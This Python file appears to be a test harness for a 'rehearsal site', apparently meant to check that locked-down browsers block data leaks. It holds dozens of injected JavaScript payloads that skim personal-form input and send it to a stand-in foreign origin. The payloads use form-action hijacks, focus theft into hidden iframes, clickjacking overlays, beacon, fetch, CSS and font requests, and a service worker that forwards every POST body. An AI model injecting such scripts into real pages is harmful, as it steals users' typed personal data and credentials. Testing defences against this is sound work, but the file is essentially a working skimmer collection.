"""Tricks that a page of the site might play on somebody who types into it, each a script; `EVIL` is a foreign origin.

They are laid into the rehearsal site's own pages with personal fields, where `form` and `field` are there already.
"""

from __future__ import annotations

LAY = """(() => {
  if (!/\\/(register\\.cgi|RCAM\\/request|RCAM\\/code)$/.test(location.pathname)) return;
  addEventListener('DOMContentLoaded', () => {
    const form = document.querySelector('form.fields-form');
    if (!form) return;
    const field = form.querySelector('input[type=text], input:not([type])');
    const all = () => [...document.querySelectorAll('input')].map((one) => one.value).join('|');
    const first = (deed) => form.addEventListener('input', deed, { once: true });
    const copy = (home) => {
      const box = home.createElement('form');
      box.method = 'post';
      box.action = 'EVIL/got';
      const input = home.createElement('input');
      input.name = 'all';
      input.value = all();
      box.append(input);
      (home.body || home.documentElement).append(box);
      return box;
    };
    TRICK
  });
})();"""

BY_FORM = {
    "a base for all addresses": "document.head.insertAdjacentHTML('afterbegin', '<base href=EVIL>')",
    "a base after the first key": """first(() => {
        document.head.insertAdjacentHTML('afterbegin', '<base href=EVIL>');
        form.setAttribute('action', 'got');
        form.submit();
    })""",
    "a button outside that belongs to the form": """
        form.id = 'mine';
        form.querySelector('button').hidden = true;
        form.insertAdjacentHTML('afterend', '<button form=mine formaction=EVIL/got>Suivant</button>')""",
    "a picture that sends": "form.insertAdjacentHTML('beforeend', '<input type=image alt=x formaction=EVIL/got>')",
    "a new tab, set when the mouse goes down": """form.addEventListener('mousedown', () => {
        form.querySelector('button').setAttribute('formtarget', '_blank');
        form.querySelector('button').setAttribute('formaction', 'EVIL/got');
    }, true)""",
    "an address set in the very moment of sending": """
        form.addEventListener('submit', () => { form.action = 'EVIL/got'; }, true)""",
    "a copy that is sent": "first(() => copy(document).submit())",
    "a copy at every key": "form.addEventListener('input', () => copy(document).submit())",
    "a page written anew": """first(() => {
        const values = all();
        document.open();
        document.write('<form method=post action=EVIL/got><input name=all></form>');
        document.close();
        document.forms[0].all.value = values;
        document.forms[0].submit();
    })""",
    "the field moves to another form": """first(() => {
        const other = document.createElement('form');
        other.method = 'post';
        other.action = 'EVIL/got';
        document.body.append(other);
        other.append(field);
        other.submit();
    })""",
    "the field belongs to another form": """
        document.body.insertAdjacentHTML('beforeend', '<form id=other method=post action=EVIL/got></form>');
        field.setAttribute('form', 'other')""",
    "a form in a shadow": """
        const host = document.createElement('div');
        form.before(host);
        const root = host.attachShadow({ mode: 'open' });
        form.setAttribute('action', 'EVIL/got');
        root.append(form)""",
    "the label goes to another field at the focus": """
        document.body.insertAdjacentHTML('beforeend',
          '<form method=post action=EVIL/got><input id=bait name=bait></form>');
        field.addEventListener('focus', () => {
          document.querySelector(`label[for="${field.id}"]`)?.setAttribute('for', 'bait');
          document.querySelector('#bait').focus();
        })""",
    "the focus jumps into a foreign frame": """
        document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/typed></iframe>');
        for (const name of ['focus', 'keydown', 'beforeinput', 'input']) {
          form.addEventListener(name, () => document.querySelector('iframe').focus(), true);
        }""",
    "the focus is taken again and again": """
        document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/typed></iframe>');
        setInterval(() => document.querySelector('iframe').contentWindow.focus(), 1)""",
    "the field is taken into an empty frame at the focus": """
        const frame = document.createElement('iframe');
        document.body.append(frame);
        field.addEventListener('focus', () => {
          const box = frame.contentDocument.createElement('form');
          box.method = 'post';
          box.action = 'EVIL/got';
          frame.contentDocument.body.append(box);
          box.append(field);
          setTimeout(() => box.submit(), 50);
        }, { once: true })""",
    "another field takes the place at the focus": """
        field.addEventListener('focus', () => {
          const box = document.createElement('form');
          box.method = 'post';
          box.action = 'EVIL/got';
          field.replaceWith(box);
          box.append(field.cloneNode());
          box.firstChild.focus();
          setTimeout(() => box.submit(), 50);
        }, { once: true })""",
    "the form in a sandbox": """
        const frame = document.createElement('iframe');
        frame.sandbox = 'allow-forms allow-scripts';
        frame.style.cssText = 'width: 100%; height: 600px';
        form.setAttribute('action', 'EVIL/got');
        frame.srcdoc = form.outerHTML;
        form.replaceWith(frame)""",
    "the form in a frame of srcdoc": """
        const frame = document.createElement('iframe');
        frame.style.cssText = 'width: 100%; height: 600px';
        form.setAttribute('action', 'EVIL/got');
        frame.srcdoc = form.outerHTML;
        form.replaceWith(frame)""",
    "a page of one's own making, by blob:": """
        form.setAttribute('action', 'EVIL/got');
        const page = new Blob([document.documentElement.outerHTML], { type: 'text/html' });
        location = URL.createObjectURL(page)""",
    "a page of one's own making, by data:": """
        const frame = document.createElement('iframe');
        frame.style.cssText = 'width: 100%; height: 600px';
        form.setAttribute('action', 'EVIL/got');
        frame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(form.outerHTML);
        form.replaceWith(frame)""",
    "two tabs with one title": """
        const twin = open('about:blank');
        twin.document.write(document.documentElement.outerHTML);
        twin.document.close();
        twin.document.querySelector('form.fields-form').setAttribute('action', 'EVIL/got')""",
    "a refresh after the first key": """first(() => document.head.insertAdjacentHTML('beforeend',
        '<meta http-equiv=refresh content="0; url=EVIL/typed">'))""",
    "the focus goes from field to field": """
        form.addEventListener('input', (event) => {
          const others = [...form.querySelectorAll('input')].filter((one) => one !== event.target);
          others[0].focus();
          others[0].value = event.target.value;
        })""",
    "a path that looks like another": "history.pushState('', '', '/RCAM/request/../../webgate.ec.europa.eu/')",
    "an overlay of a foreign frame": """
        document.body.insertAdjacentHTML('beforeend',
          '<iframe src=EVIL/typed style="position: fixed; width: 100%; height: 100%; opacity: 0"></iframe>')""",
    "a copy in an empty window": """first(() => {
        const view = open('about:blank');
        if (view) copy(view.document).submit();
    })""",
    "leaving, with a question": """
        addEventListener('beforeunload', (event) => { event.preventDefault(); copy(document).submit(); })""",
}
"""Tricks with forms and with the focus: held back on a browser that can reach every address."""

BY_SCRIPT = {
    "beacon": "navigator.sendBeacon('EVIL/got', all())",
    "fetch": "fetch('EVIL/got', { method: 'POST', mode: 'no-cors', keepalive: true, body: all() })",
    "request": "const asked = new XMLHttpRequest(); asked.open('POST', 'EVIL/got'); asked.send(all())",
    "picture": "new Image().src = 'EVIL/got?' + encodeURIComponent(all())",
    "socket": "new WebSocket('EVIL/got?'.replace('http', 'ws') + encodeURIComponent(all()))",
    "events": "new EventSource('EVIL/got?' + encodeURIComponent(all()))",
    "style": "document.body.style.backgroundImage = `url('EVIL/got?${encodeURIComponent(all())}')`",
    "letters": """
        new FontFace('x', `url('EVIL/got?${encodeURIComponent(all())}')`).load().catch(() => 0)""",
    "script": """
        const script = document.createElement('script');
        script.src = 'EVIL/got?' + encodeURIComponent(all());
        document.body.append(script)""",
    "prefetch": """
        for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'modulepreload', 'prerender']) {
          const link = document.createElement('link');
          link.rel = rel;
          link.as = 'image';
          link.href = 'EVIL/got?' + encodeURIComponent(all());
          document.head.append(link);
        }""",
    "frame": """
        const frame = document.createElement('iframe');
        frame.src = 'EVIL/got?' + encodeURIComponent(all());
        document.body.append(frame)""",
    "a form in a frame of the site's own": """
        const frame = document.createElement('iframe');
        frame.src = '/static/base.css';
        frame.onload = () => { if (!frame.done) { frame.done = true; copy(frame.contentDocument).submit(); } };
        document.body.append(frame)""",
    "leaving": "location = 'EVIL/got?' + encodeURIComponent(all())",
    "refresh": """
        document.head.insertAdjacentHTML('beforeend',
          `<meta http-equiv=refresh content="0; url=EVIL/got?${encodeURIComponent(all())}">`)""",
    "window": "open('EVIL/got?' + encodeURIComponent(all()))",
    "worker": """
        const source = `fetch('EVIL/got', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
        new Worker(URL.createObjectURL(new Blob([source])))""",
    "service worker": "navigator.serviceWorker.register('/static/worker.js?EVIL', { scope: '/' })",
    "message": """
        const frame = document.createElement('iframe');
        frame.src = 'EVIL/typed';
        frame.onload = () => frame.contentWindow.postMessage(all(), '*');
        document.body.append(frame)""",
    "ping": """
        const link = document.createElement('a');
        link.href = '#';
        link.ping = 'EVIL/got?' + encodeURIComponent(all());
        document.body.append(link);
        link.click()""",
}
"""What a script can do with a field besides sending a form. Nothing in a page stops it: the locked hosts do."""

WORKER = b"""
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.method === 'POST') event.waitUntil(event.request.clone().text()
    .then((body) => fetch(location.search.slice(1) + '/got', { method: 'POST', mode: 'no-cors', body })));
});"""
"""What stays behind a site's pages and reads all that they send; its address says where to."""

WATCHING = "form.addEventListener('input', deed); form.addEventListener('change', deed);"


def script_of(trick: str, foreign: str) -> str:
    """The script that lays a trick into a page."""
    deed = BY_FORM.get(trick) or f"const deed = () => {{ {BY_SCRIPT[trick]} }}; {WATCHING}"
    return LAY.replace("TRICK", deed).replace("EVIL", foreign)
